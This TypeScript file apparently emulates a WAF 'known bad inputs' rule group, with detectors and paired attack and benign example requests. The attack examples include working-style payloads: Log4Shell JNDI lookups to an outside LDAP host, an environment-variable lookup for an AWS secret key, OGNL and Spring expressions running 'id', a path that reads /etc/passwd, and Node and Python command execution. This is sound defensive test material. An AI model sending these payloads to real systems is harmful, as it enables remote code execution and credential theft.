import { probedPath } from '../detectors/clients/probes.ts'
import { javaCode } from '../detectors/code/java.ts'
import { log4jLookup } from '../detectors/code/log4j.ts'
import { prototypePollution, reactFlight, scriptCode } from '../detectors/code/scripts.ts'
import { serverSideInclude } from '../detectors/code/server-side-include.ts'
import { templateCode } from '../detectors/code/templates.ts'
import { unixShell } from '../detectors/shell/unix-shell.ts'
import { windowsShell } from '../detectors/windows/windows-shell.ts'
import type { Component } from '../inspected-value.ts'
import type { ParsedRequest } from '../parsed-request.ts'
import { detectorRule, firstIn } from './detector-rule.ts'
import { inCookie, inForm, inHeader, inJson, inQuery, inTarget, jsonBody } from './examples.ts'
import { HarmlessTexts, unlessHarmless } from './harmless.ts'
import { requestRule } from './request-rule.ts'
import type { ManagedMatch, ManagedRule, ManagedRuleGroup, RequestExample } from './rule.ts'

const evaluators = [javaCode, scriptCode, templateCode, serverSideInclude, prototypePollution]
const gadget = 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='
const ognl = "%{(#a=@java.lang.Runtime@getRuntime()).exec('id')}"
const nested = '${${lower:j}${::-n}di:ldap://198.51.100.9/a}'

function evaluation(
  [name, label]: readonly [name: string, label: string],
  components: Component[],
  attack: RequestExample[],
  benign: RequestExample[],
): ManagedRule {
  return detectorRule({
    name,
    label,
    components,
    detectors: evaluators,
    examples: { attack, benign },
  })
}

function log4j(
  [name, label]: readonly [name: string, label: string],
  components: Component[],
  attack: RequestExample[],
  benign: RequestExample[],
): ManagedRule {
  return detectorRule({
    name,
    label,
    components,
    detectors: [log4jLookup],
    examples: { attack, benign },
  })
}

const evaluation4: readonly ManagedRule[] = [
  evaluation(
    ['JavaDeserializationRCE_HEADER', 'JavaDeserializationRCE_Header'],
    ['headers', 'cookies'],
    [
      inCookie(gadget),
      inHeader('content-type', ognl),
      inHeader('x-name', '{{7*7}}'),
      inHeader(
        'spring.cloud.function.routing-expression',
        'T(java.lang.Runtime).getRuntime().exec("id")',
      ),
    ],
    [inCookie('rose'), inHeader('user-agent', 'Java/17.0.2'), inHeader('x-name', '{name}')],
  ),
  evaluation(
    ['JavaDeserializationRCE_BODY', 'JavaDeserializationRCE_Body'],
    ['body'],
    [
      inForm(ognl),
      inJson(gadget),
      inForm('class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
      jsonBody({ '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'rmi://x/y' }),
      inForm("{{''.__class__.__mro__[1].__subclasses__()}}"),
      inForm('<!--#exec cmd="ls" -->'),
      inForm("require('child_process').exec('id')"),
      inForm('__import__("os").system("id")'),
    ],
    [
      inJson('Dear {{ customer.name }}, your order {{ order.id }} has shipped.'),
      inJson('java.lang.NullPointerException at com.example.Main.main(Main.java:5)'),
      inForm('I like Java, Python and Ruby.'),
      jsonBody({ '@type': 'Person', name: 'A' }),
    ],
  ),
  evaluation(
    ['JavaDeserializationRCE_URIPATH', 'JavaDeserializationRCE_URIPath'],
    ['uriPath'],
    [
      inTarget('/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/index'),
      inTarget('/a/{{7*7}}'),
    ],
    [inTarget('/api/users/%7Bid%7D'), inTarget('/java/lang/String.html')],
  ),
  evaluation(
    ['JavaDeserializationRCE_QUERYSTRING', 'JavaDeserializationRCE_QueryString'],
    ['queryArguments'],
    [
      inQuery(gadget),
      inQuery(ognl),
      inQuery('${7*7}'),
      inTarget('/?class.module.classLoader.URLs%5B0%5D=0'),
      inTarget('/?__proto__[admin]=1'),
      inQuery('<%= 7*7 %>'),
    ],
    [inQuery('Hello ${name}'), inQuery('class: 5b'), inQuery('{"a":1}'), inQuery('{{ title }}')],
  ),
]

const log4j4: readonly ManagedRule[] = [
  log4j(
    ['Log4JRCE_HEADER', 'Log4JRCE_Header'],
    ['headers', 'cookies'],
    [inHeader('user-agent', '${jndi:ldap://198.51.100.9/a}'), inHeader('x-api-version', nested)],
    [inHeader('user-agent', 'log4j-check'), inHeader('x-a', '${name}')],
  ),
  log4j(
    ['Log4JRCE_QUERYSTRING', 'Log4JRCE_QueryString'],
    ['queryArguments'],
    [inQuery('${jndi:dns://x.example}'), inQuery(nested)],
    [inQuery('$5 {jndi}'), inQuery('${price}')],
  ),
  log4j(
    ['Log4JRCE_BODY', 'Log4JRCE_Body'],
    ['body'],
    [
      inJson('${jndi:${lower:l}${lower:d}ap://x.example/a}'),
      inForm('${env:AWS_SECRET_ACCESS_KEY}'),
    ],
    [inJson('Use ${user} and ${host} in the text.'), inForm('JNDI is an interface of Java.')],
  ),
  log4j(
    ['Log4JRCE_URIPATH', 'Log4JRCE_URIPath'],
    ['uriPath'],
    [inTarget('/$%7Bjndi:ldap://x.example/a%7D')],
    [inTarget('/jndi/'), inTarget('/a/$%7Bb%7D')],
  ),
]

const forgedReply = detectorRule({
  name: 'ReactJSRCE_BODY',
  label: 'ReactJSRCE_Body',
  components: ['body'],
  detectors: [reactFlight, prototypePollution],
  examples: {
    attack: [
      inForm('{"then":"$1:__proto__:then","status":"resolved_model","value":"{}"}'),
      jsonBody({ constructor: { prototype: { admin: true } } }),
      inForm('["$1:constructor:constructor"]'),
    ],
    benign: [
      inForm('["$1","$2"]'),
      jsonBody({ status: 'resolved', next: 'go' }),
      inJson('the $prototype costs $1:20'),
    ],
  },
})

/** `{"constructor": {"prototype": {…}}}`: two names that are only together what they do. */
function nestedPrototype(request: ParsedRequest): ManagedMatch | undefined {
  const value = request
    .values('body')
    .find(({ ofName, forms }) => ofName && forms[0] === 'prototype')
  if (value === undefined) return undefined
  const found = /"constructor"\s*:\s*\{\s*"prototype"/.exec(request.bodyText)
  return found === null ? undefined : { evidence: found[0], reason: prototypePollution.name, value }
}

/** Methods with which browsers and programs reach an application; what else there is belongs to file shares and to debuggers. */
const methods = /^(?:GET|HEAD|POST|PUT|PATCH|DELETE|OPTIONS)$/

const requestParts: readonly ManagedRule[] = [
  requestRule({
    name: 'Host_localhost_HEADER',
    label: 'Host_Localhost_Header',
    reason: 'a host that no visitor can have typed',
    find: oddHost,
    examples: {
      attack: [
        inHeader('host', 'localhost'),
        inHeader('host', 'localhost:8080'),
        inHeader('host', ''),
        inHeader('host', 'a.example/../x'),
      ],
      benign: [
        {},
        inHeader('host', 'localhost-shop.example'),
        inHeader('host', '203.0.113.4:8443'),
      ],
    },
  }),
  requestRule({
    name: 'PROPFIND_METHOD',
    label: 'Propfind_Method',
    reason: 'a method that web applications do not serve',
    find: ({ request }) => (methods.test(request.method) ? undefined : request.method.slice(0, 40)),
    examples: {
      attack: [{ method: 'PROPFIND' }, { method: 'TRACE' }, { method: 'get' }, { method: 'DEBUG' }],
      benign: [{}, { method: 'DELETE', target: '/items/5' }, { method: 'OPTIONS' }],
    },
  }),
  requestRule({
    name: 'ExploitablePaths_URIPATH',
    label: 'ExploitablePaths_URIPath',
    reason: 'a path that scanners try, or that carries a command',
    find: exploitablePath,
    examples: {
      attack: [
        inTarget('/.git/HEAD'),
        inTarget('/actuator/env'),
        inTarget('/cgi-bin/test.cgi'),
        inTarget('/phpmyadmin/setup.php'),
        inTarget('/a;cat%20/etc/passwd'),
        inTarget('/%2e%67%69%74/config'),
      ],
      benign: [
        inTarget('/gitlab/project'),
        inTarget('/actuator/health'),
        inTarget('/shop/setup-guide'),
        inTarget('/matrix;a=1;id=2/x'),
      ],
    },
  }),
  {
    ...forgedReply,
    inspect: (request, scene) => forgedReply.inspect(request, scene) ?? nestedPrototype(request),
  },
]

function oddHost(request: ParsedRequest): string | undefined {
  const hosts = request.headerValues('host')
  const [host = ''] = hosts
  const odd =
    hosts.length > 1 ||
    !/^(?:[\w.-]+|\[[\da-f:.%]+\])(?::\d{1,5})?$/i.test(host) ||
    /^localhost\.?(?::|$)/i.test(host)
  if (hosts.length === 0 && request.request.httpVersion === 'HTTP/1.0') return 'no host'
  return odd ? `host: ${hosts.join(', ').slice(0, 60)}` : undefined
}

const commands = [unixShell, windowsShell]

const paths = new HarmlessTexts()

function exploitablePath(request: ParsedRequest): string | undefined {
  const values = request.values('uriPath')
  for (const { forms } of values) {
    for (const form of forms) {
      const found = unlessHarmless(paths, form, (path) => probedPath(path.replace(/\/{2,}/g, '/')))
      if (found !== undefined) return found.evidence
    }
  }
  for (const detector of commands) {
    const found = firstIn(values, detector)
    if (found !== undefined) return found.evidence
  }
  return /%(?![\da-f]{2}|u[\da-f]{4})/i.exec(request.uriPath) === null
    ? undefined
    : 'an escape that is none'
}

/** Requests that are known to be sent against known weaknesses. */
export const knownBadInputs: ManagedRuleGroup = {
  vendorName: 'AWS',
  name: 'AWSManagedRulesKnownBadInputsRuleSet',
  version: 'Version_1.0',
  description: 'Stops requests that are sent to use or to find a known weakness.',
  capacity: 200,
  labelNamespace: 'awswaf:managed:aws:known-bad-inputs:',
  rules: [...evaluation4, ...requestParts, ...log4j4],
}
